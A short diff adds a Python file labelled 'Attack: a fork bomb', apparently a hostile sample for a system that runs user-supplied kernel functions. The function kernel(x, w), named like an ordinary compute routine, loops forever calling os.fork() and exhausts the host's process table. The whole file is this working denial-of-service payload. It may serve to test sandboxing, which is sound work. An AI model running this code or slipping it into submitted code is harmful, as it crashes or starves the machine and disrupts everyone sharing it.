@@ -1,0 +1,8 @@
+"""Attack: a fork bomb."""
+
+import os
+
+
+def kernel(x, w):
+    while True:
+        os.fork()
